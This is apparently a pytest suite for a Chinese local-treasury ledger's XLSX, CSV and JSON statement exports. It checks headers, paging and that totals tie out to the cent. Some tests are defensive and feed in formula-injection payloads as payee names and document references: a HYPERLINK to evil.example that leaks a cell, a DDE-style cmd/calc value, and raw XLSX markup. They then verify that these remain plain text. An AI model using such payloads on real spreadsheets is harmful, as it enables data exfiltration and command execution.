"""Issue 12 "Excel-first, in Chinese": the statement, the balances and the year-end
statement as XLSX and CSV, read back with openpyxl — numbers are numbers, dates are
dates, headers Chinese (English with lang=en), amounts tie out to the balances to the
cent, formula-looking text stays text, file names decode — and the statement's JSON
with payee names, 文号 and 摘要, paged past 1,000 lines. Both stores."""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from service.ledger import Ledger
from tests import builders as b
from tests.api_support import HOME, Api, event, running_api

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ACCOUNT = f"/accounts/local_treasury/{HOME}"
STATEMENT = f"{ACCOUNT}/statement?from=2018-01-01&to=2018-12-31"
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1)'
EVIL_REF = "+湘财〔2018〕9号"
NUMBER = b.id_number("1991-04-05")
CENT = Decimal("0.01")


@pytest.fixture
def api(make_ledger: Callable[[], Ledger]) -> Iterator[Api]:
    with running_api(make_ledger()) as api:
        api.token("finance", "finance", HOME)
        api.token("auditor", "auditor", "430000")
        api.token("elsewhere", "finance", "430103")
        yield api


@pytest.fixture
def paid(api: Api) -> dict[str, Any]:
    return a_year_of_local_treasury(api.ledger)


def a_year_of_local_treasury(ledger: Ledger) -> dict[str, Any]:
    """One county's local treasury in 2018: money in under a formula-looking 文号, a
    transport subsidy paid to a worker in person, one to an employer whose name looks
    like a formula, and the worker's reversed."""
    b.transport_standard(ledger, "300.00")
    b.post(ledger, "FundsAppropriated", by="finance", appropriation_id="ap-2017",
           source="local_treasury", division=HOME, amount="100.00",
           appropriated_on="2017-12-20", document_ref="湘财〔2017〕1号")  # fmt: skip
    b.post(ledger, "FundsAppropriated", by="finance", appropriation_id="ap-2018",
           source="local_treasury", division=HOME, amount="10000.50",
           appropriated_on="2018-01-02", document_ref=EVIL_REF)  # fmt: skip
    b.post(ledger, "WorkerRegistered", worker_id="w-li", name="李四", id_number=NUMBER,
           birth_date="1991-04-05", home_division=HOME, registered_on="2017-01-01")  # fmt: skip
    b.post(ledger, "OrganisationRegistered", org_id="org-evil", name=EVIL_NAME,
           division=HOME, kind="enterprise")  # fmt: skip
    own = b.placement(ledger, "w-li", "org-evil", "2018-01-15")
    other = b.placement(ledger, b.worker(ledger), "org-evil", "2018-01-15")
    to_worker = b.pay(ledger, "R12", "w-li", "2018-02-01", placement_id=own)
    b.pay(ledger, "R12", "org-evil", "2018-02-03", placement_id=other)
    b.reverse(ledger, to_worker.payment_id, "2018-03-05", reason="-重复支付")
    return {"position": b.store_size(ledger)}


def get(api: Api, who: str, path: str, **headers: str) -> Any:
    """An answer that has read everything recorded so far (facts here go to the ledger
    directly, not through the API that would wait for them)."""
    after = {"X-Jobaid-After-Position": str(b.store_size(api.ledger))}
    answer = api.get(who, path, **after, **headers)
    assert answer.status_code == 200, answer.text
    return answer


def sheet_of(content: bytes, title: str | None = None) -> Worksheet:
    book = load_workbook(io.BytesIO(content))
    sheet = book[title] if title is not None else book.worksheets[0]
    assert isinstance(sheet, Worksheet)
    return sheet


def file_name(answer: Any) -> str:
    """The name RFC 6266's `filename*` gives, decoded as a browser does."""
    found = re.search(r"filename\*=UTF-8''([^;]+)", answer.headers["content-disposition"])
    assert found is not None, answer.headers["content-disposition"]
    return unquote(found.group(1))


def money(value: object) -> Decimal:
    """A numeric cell as exact money: Excel keeps a double, which holds every ledger
    amount to the cent (at most 14 significant digits)."""
    assert isinstance(value, int | float) and not isinstance(value, bool), value
    return Decimal(repr(value)).quantize(CENT)


def rows_of(sheet: Worksheet) -> list[tuple[Any, ...]]:
    return [tuple(cell for cell in row) for row in sheet.iter_rows()]


# The statement's JSON.


def test_the_statement_names_payees_and_carries_the_document_ref_and_a_summary(
    api: Api, paid: dict[str, Any]
) -> None:
    body = get(api, "finance", STATEMENT).json()
    lines = body["lines"]
    assert [line["kind"] for line in lines] == ["appropriation", "payment", "payment", "reversal"]
    assert lines[0]["document_ref"] == EVIL_REF and lines[0]["summary"] == f"拨款 {EVIL_REF}"
    assert (lines[1]["payee_name"], lines[1]["summary"]) == ("李四", "一次性交通补助")
    assert lines[2]["payee_name"] == EVIL_NAME
    assert (
        lines[3]["reason"] == "-重复支付"
        and lines[3]["summary"] == "冲回 一次性交通补助：-重复支付"
    )
    assert lines[3]["payee_name"] == "李四"
    # The contract's keys are all still there, and the statement is whole: no next page.
    assert {
        "date",
        "kind",
        "rule",
        "payee_id",
        "worker_id",
        "amount",
        "balance",
        "position",
    } <= set(lines[0])
    assert body["opening_balance"] == "100.00" and body["next_cursor"] is None
    assert NUMBER not in get(api, "auditor", STATEMENT).text


def test_a_statement_pages_with_limit_and_cursor_and_each_page_opens_where_the_last_closed(
    api: Api, paid: dict[str, Any]
) -> None:
    whole = get(api, "finance", STATEMENT).json()
    pages, cursor = [], None
    while True:
        page = get(
            api, "finance", STATEMENT + "&limit=1" + (f"&cursor={cursor}" if cursor else "")
        ).json()
        pages.append(page)
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert [line for page in pages for line in page["lines"]] == whole["lines"]
    for before, after in itertools.pairwise(pages):
        assert after["opening_balance"] == before["closing_balance"]
    for page in pages:
        total = sum((Decimal(line["amount"]) for line in page["lines"]), Decimal(0))
        assert Decimal(page["opening_balance"]) + total == Decimal(page["closing_balance"])
    assert pages[-1]["closing_balance"] == whole["closing_balance"]


def test_a_cursor_of_another_statement_or_a_limit_past_1000_is_a_422(
    api: Api, paid: dict[str, Any]
) -> None:
    cursor = get(api, "finance", STATEMENT + "&limit=1").json()["next_cursor"]
    for path in (
        f"{ACCOUNT}/statement?from=2018-03-01&cursor={cursor}",  # the line lies before `from`
        f"/accounts/employment_fund/{HOME}/statement?cursor={cursor}",
        STATEMENT + "&limit=1001",
        STATEMENT + "&limit=0",
        STATEMENT + "&cursor=c1.bm90LWEtbnVtYmVy",
    ):
        refused = api.get("finance", path)
        assert refused.status_code in (404, 422), (path, refused.text)
        assert refused.headers["content-type"] == "application/problem+json"


def test_a_statement_past_1000_lines_answers_its_first_1000_and_a_cursor(api: Api) -> None:
    for numbers in (range(1_000), range(1_000, 1_001)):  # a batch holds at most 1,000 facts
        b.batch(api.ledger, "FundsAppropriated", [
            {"appropriation_id": f"ap-{n}", "source": "local_treasury", "division": HOME,
             "amount": "1.01", "appropriated_on": "2018-05-01", "document_ref": f"文{n}"}
            for n in numbers
        ], by="finance")  # fmt: skip
    first = get(api, "finance", f"{ACCOUNT}/statement").json()
    assert len(first["lines"]) == 1_000 and first["closing_balance"] == "1010.00"
    rest = get(api, "finance", f"{ACCOUNT}/statement?cursor={first['next_cursor']}").json()
    assert (len(rest["lines"]), rest["opening_balance"], rest["closing_balance"]) == (
        1,
        "1010.00",
        "1011.01",
    )
    assert rest["next_cursor"] is None
    # A file is never paged: all 1,001 lines between the two balance rows.
    rows = rows_of(sheet_of(get(api, "finance", f"{ACCOUNT}/statement?format=xlsx").content))
    assert len(rows) == 1 + 1 + 1_001 + 1


# The statement as a file.


def test_the_statement_xlsx_reads_back_typed_in_chinese_and_ties_out_to_the_cent(
    api: Api, paid: dict[str, Any]
) -> None:
    answer = get(api, "finance", STATEMENT + "&format=xlsx")
    assert answer.headers["content-type"] == XLSX
    assert file_name(answer) == "当地财政-430102-2018.xlsx"
    sheet = sheet_of(answer.content)
    assert sheet.title == "当地财政" and sheet.freeze_panes == "A2"
    rows = rows_of(sheet)
    header = [cell.value for cell in rows[0]]
    assert header[:6] == ["日期", "摘要", "收款人", "金额", "余额", "文号"]
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width
    opening, *lines, closing = rows[1:]
    assert opening[1].value == "期初余额" and closing[1].value == "期末余额"
    for row in lines:
        assert isinstance(row[0].value, datetime) and row[0].is_date  # a date cell
        assert row[3].number_format == "#,##0.00" and row[4].number_format == "#,##0.00"
        assert isinstance(row[11].value, datetime)  # recorded at, Beijing time
    total = sum((money(row[3].value) for row in lines), Decimal(0))
    assert total == money(closing[4].value) - money(opening[4].value)
    assert money(opening[4].value) == Decimal("100.00")
    assert money(closing[4].value) == Decimal("100.00") + Decimal("10000.50") - 300 - 300 + 300
    # Formula-looking text is text, shown as written after a quote; never a formula.
    texts = [cell for row in lines for cell in row if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in texts)
    assert f"'{EVIL_NAME}" in [cell.value for cell in texts]
    assert f"'{EVIL_REF}" in [cell.value for cell in texts]
    assert not any(str(cell.value).startswith(("=", "+", "-", "@")) for cell in texts)
    assert NUMBER not in str([[cell.value for cell in row] for row in rows])


def test_the_statement_in_english_with_lang_en(api: Api, paid: dict[str, Any]) -> None:
    answer = get(api, "finance", STATEMENT + "&format=xlsx&lang=en")
    assert file_name(answer) == "local_treasury-430102-2018.xlsx"
    rows = rows_of(sheet_of(answer.content))
    assert [cell.value for cell in rows[0]][:6] == [
        "date", "summary", "payee_name", "amount", "balance", "document_ref",
    ]  # fmt: skip
    assert rows[2][1].value == "appropriation +湘财〔2018〕9号"
    assert rows[3][1].value == "one-off transport subsidy"
    assert rows[-1][1].value == "closing_balance"


def test_the_statement_csv_has_a_bom_the_same_columns_and_ties_out(
    api: Api, paid: dict[str, Any]
) -> None:
    answer = get(api, "auditor", STATEMENT, Accept="text/csv")
    assert answer.headers["content-type"].startswith("text/csv")
    assert file_name(answer) == "当地财政-430102-2018.csv"
    assert answer.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    xlsx = rows_of(sheet_of(get(api, "auditor", STATEMENT + "&format=xlsx").content))
    assert rows[0] == [cell.value for cell in xlsx[0]]
    opening, *lines, closing = rows[1:]
    total = sum((Decimal(row[3]) for row in lines), Decimal(0))
    assert total == Decimal(closing[4]) - Decimal(opening[4])
    assert f"'{EVIL_NAME}" in [row[2] for row in lines]
    assert lines[0][0] == "2018-01-02" and re.fullmatch(
        r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d.*\+08:00", lines[0][11]
    )


def test_a_month_statement_is_named_by_its_month(api: Api, paid: dict[str, Any]) -> None:
    answer = get(api, "finance", f"{ACCOUNT}/statement?from=2018-02-01&to=2018-02-28&format=csv")
    assert file_name(answer) == "当地财政-430102-2018-02.csv"
    assert 'filename="' in answer.headers["content-disposition"]  # an ASCII fallback too


def test_a_statement_file_as_the_ledger_knew_it(api: Api, paid: dict[str, Any]) -> None:
    lines = get(api, "finance", STATEMENT).json()["lines"]
    known_at = quote(lines[2]["recorded_at"])  # before the reversal was recorded
    rows = rows_of(
        sheet_of(get(api, "finance", f"{STATEMENT}&known_at={known_at}&format=xlsx").content)
    )
    assert len(rows) == 1 + 1 + 3 + 1  # header, opening, three lines, closing
    assert money(rows[-1][4].value) == Decimal(lines[2]["balance"])


def test_a_statement_file_is_for_those_who_may_read_the_account(
    api: Api, paid: dict[str, Any]
) -> None:
    assert api.get("elsewhere", STATEMENT + "&format=xlsx").status_code == 403
    assert api.get("finance", STATEMENT + "&format=pdf").status_code == 422
    assert api.get("finance", STATEMENT + "&format=csv&lang=fr").status_code == 422
    assert (
        api.get("finance", f"/accounts/employment_fund/{HOME}/statement?format=xlsx").status_code
        == 404
    )


# The balances.


def test_the_balances_xlsx_has_a_sheet_per_source_named_in_chinese(
    api: Api, paid: dict[str, Any]
) -> None:
    b.appropriate(api.ledger, "500.00", "employment_fund", HOME, on="2018-01-01")
    answer = get(api, "finance", "/accounts?as_of=2018-02-03", Accept=XLSX)
    assert file_name(answer) == "账户余额-2018-02-03.xlsx"
    book = load_workbook(io.BytesIO(answer.content))
    assert book.sheetnames == ["就业补助资金", "失业保险基金", "当地财政"]
    treasury = book["当地财政"]
    assert treasury.freeze_panes == "A2"
    header, row = [[cell.value for cell in r] for r in treasury.iter_rows()]
    assert header == ["资金来源", "区划代码", "区划名称", "拨入", "支出", "冲回", "余额"]
    assert row[:3] == ["当地财政", HOME, "芙蓉区"]
    appropriated, paid_, reversed_, balance = (money(v) for v in row[3:])
    assert (appropriated, paid_, reversed_) == (Decimal("10100.50"), Decimal("600.00"), Decimal(0))
    assert balance == appropriated - paid_ + reversed_
    json_rows = get(api, "finance", "/accounts?as_of=2018-02-03").json()
    assert (
        Decimal(next(r for r in json_rows if r["source"] == "local_treasury")["balance"]) == balance
    )


def test_the_balances_csv_in_english_as_the_ledger_knew_them(
    api: Api, paid: dict[str, Any]
) -> None:
    known_at = quote(get(api, "finance", STATEMENT).json()["lines"][0]["recorded_at"])
    answer = get(api, "finance", f"/accounts?known_at={known_at}&format=csv&lang=en")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert rows[0] == [
        "source",
        "division",
        "division_name",
        "appropriated",
        "paid",
        "reversed",
        "balance",
    ]
    assert rows[1][0] == "local_treasury" and rows[1][-1] == "10100.50"


# The year-end statement.


def test_the_year_end_statement_carries_the_year_forward_month_by_month(
    api: Api, paid: dict[str, Any]
) -> None:
    report = get(api, "finance", f"{ACCOUNT}/year-end?year=2018").json()
    assert (report["opening_balance"], report["closing_balance"]) == ("100.00", "9800.50")
    assert (report["appropriated"], report["paid"], report["reversed"]) == (
        "10000.50",
        "600.00",
        "300.00",
    )
    months = report["months"]
    assert [m["period"] for m in months] == [f"2018-{n:02d}" for n in range(1, 13)]
    for before, after in itertools.pairwise(months):
        assert after["opening_balance"] == before["closing_balance"]
    assert months[-1]["closing_balance"] == report["closing_balance"]
    statement = get(api, "finance", STATEMENT).json()
    assert statement["closing_balance"] == report["closing_balance"]
    known = get(
        api,
        "finance",
        f"{ACCOUNT}/year-end?year=2018&known_at={quote(statement['lines'][2]['recorded_at'])}",
    )
    assert known.json()["reversed"] == "0.00"


def test_the_year_end_xlsx_reads_back_and_ties_out(api: Api, paid: dict[str, Any]) -> None:
    answer = get(api, "finance", f"{ACCOUNT}/year-end?year=2018&format=xlsx")
    assert file_name(answer) == "当地财政-430102-2018-年度收支.xlsx"
    sheet = sheet_of(answer.content, "当地财政")
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == ["期间", "期初余额", "拨入", "支出", "冲回", "期末余额"]
    months, year = rows[1:13], rows[13]
    assert year[0] == "全年"
    for column in (2, 3, 4):
        assert sum(money(m[column]) for m in months) == money(year[column])
    assert money(year[5]) - money(year[1]) == money(year[2]) - money(year[3]) + money(year[4])


@pytest.mark.parametrize("year", ["18", "２０１８", "1900", "abcd"])
def test_a_year_that_is_not_one_is_a_422(api: Api, paid: dict[str, Any], year: str) -> None:
    refused = api.get("finance", f"{ACCOUNT}/year-end?year={year}")
    assert refused.status_code == 422, refused.text


def test_the_files_carry_no_formula_even_from_an_event_posted_over_http(api: Api) -> None:
    posted = api.post("finance", "/events", event(
        "FundsAppropriated", appropriation_id="ap-at", source="local_treasury", division=HOME,
        amount="5.00", appropriated_on="2018-06-01", document_ref="@SUM(1+1)*cmd|' /C calc'!A0"))  # fmt: skip
    assert posted.status_code == 201, posted.text
    rows = rows_of(sheet_of(get(api, "finance", f"{ACCOUNT}/statement?format=xlsx").content))
    ref = rows[2][5]
    assert ref.data_type == "s" and ref.value == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert isinstance(rows[2][0].value, datetime) and rows[2][0].value.date() == date(2018, 6, 1)


# The command line, in a fresh process on each store.


def jobaid(database_url: str, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "JOBAID_DATABASE_URL": database_url, "JOBAID_PII_KEY": "cli-test"}
    return subprocess.run([sys.executable, "-m", "cli", *args], env=env, cwd=tmp_path,
                          capture_output=True, timeout=120)  # fmt: skip


def test_jobaid_statement_writes_the_same_xlsx_csv_and_json(
    ledger: Ledger, database_url: str, tmp_path: Path
) -> None:
    a_year_of_local_treasury(ledger)
    account = ("local_treasury", HOME, "--from", "2018-01-01", "--to", "2018-12-31")
    book = tmp_path / "statement.xlsx"
    done = jobaid(database_url, tmp_path, "statement", *account, "--output", str(book))
    assert done.returncode == 0, done.stderr.decode()
    sheet = sheet_of(book.read_bytes(), "当地财政")
    rows = rows_of(sheet)
    assert [cell.value for cell in rows[0]][:6] == [
        "日期",
        "摘要",
        "收款人",
        "金额",
        "余额",
        "文号",
    ]
    opening, *lines, closing = rows[1:]
    assert sum(money(row[3].value) for row in lines) == money(closing[4].value) - money(
        opening[4].value
    )
    assert isinstance(lines[0][0].value, datetime) and f"'{EVIL_NAME}" in [
        row[2].value for row in lines
    ]

    done = jobaid(database_url, tmp_path, "statement", *account, "--format", "csv", "--lang", "en")
    assert done.returncode == 0 and done.stdout.startswith("\ufeff".encode())
    text = done.stdout.decode("utf-8-sig").splitlines()
    assert text[0].startswith("date,summary,payee_name,amount,balance,document_ref")
    assert len(text) == len(rows)

    done = jobaid(database_url, tmp_path, "statement", *account, "--format", "json")
    body = json.loads(done.stdout)
    assert [line["payee_name"] for line in body["lines"]][1:3] == ["李四", EVIL_NAME]
    assert Decimal(body["closing_balance"]) == money(closing[4].value)

    year = jobaid(database_url, tmp_path, "year-end", "local_treasury", HOME, "--year", "2018",
                  "--format", "json")  # fmt: skip
    assert json.loads(year.stdout)["closing_balance"] == body["closing_balance"]


def test_jobaid_statement_refuses_in_one_line(
    ledger: Ledger, database_url: str, tmp_path: Path
) -> None:
    a_year_of_local_treasury(ledger)
    for args, said in (
        (("employment_fund", HOME), "unknown account"),
        (("local_treasury", HOME, "--from", "2018-13-01"), "from"),
    ):
        done = jobaid(database_url, tmp_path, "statement", *args, "--format", "csv")
        assert done.returncode == 2, done.stderr
        assert said in done.stderr.decode() and len(done.stderr.decode().strip().splitlines()) == 1
        assert not list(tmp_path.glob("*.part"))


def test_a_statement_file_is_one_picture_however_long_it_takes_to_download(ledger: Ledger) -> None:
    """Lines recorded while a file is being read — even back-dated into its range — are
    not in it: each chunk reads at the snapshot the file began at, so it ties out."""
    from projections import Projections

    a_year_of_local_treasury(ledger)
    projections = Projections(ledger.store)
    projections.catch_up()
    found = projections.statement_file("local_treasury", HOME, date(2018, 1, 1), date(2018, 12, 31))
    assert found is not None
    head, lines = found
    b.post(ledger, "FundsAppropriated", by="finance", appropriation_id="ap-late",
           source="local_treasury", division=HOME, amount="7.00",
           appropriated_on="2018-01-01", document_ref="湘财〔2018〕99号")  # fmt: skip
    projections.catch_up()
    read = list(lines)
    assert "ap-late" not in [line["reference"] for line in read]
    total = sum((Decimal(line["amount"]) for line in read), Decimal(0))
    assert Decimal(head["opening_balance"]) + total == Decimal(read[-1]["balance"])
    again = projections.statement("local_treasury", HOME, date(2018, 1, 1), date(2018, 12, 31))
    assert again is not None and again["lines"][0]["reference"] == "ap-late"
    projections.close()


def test_a_payee_named_in_xlsx_markup_cannot_plant_a_formula_beside_its_cell(api: Api) -> None:
    """XlsxWriter writes a string `<r>…</r>` into the sheet's XML unescaped (rich text):
    this name would close its cell and add a live HYPERLINK cell after it."""
    markup = '<r><t>x</t></r></is></c><c r="Z3"><f>HYPERLINK("http://evil.example/","点此")</f></c><c r="Y3" t="inlineStr"><is><r><t>y</t></r>'
    ledger = api.ledger
    b.appropriate(ledger, amount="500000.00", division="430000", on="2018-01-01")
    b.post(ledger, "OrganisationRegistered", org_id="org-markup", name=markup,
           division=HOME, kind="enterprise")  # fmt: skip
    b.post(ledger, "BaseDesignated", org_id="org-markup", designated_on="2018-01-01", by="admin")
    b.pay(ledger, "R16", "org-markup", "2018-06-01")
    answer = get(api, "auditor", "/accounts/employment_fund/430000/statement?format=xlsx")
    cells = [cell for row in rows_of(sheet_of(answer.content)) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert f"'{markup}" in [cell.value for cell in cells]
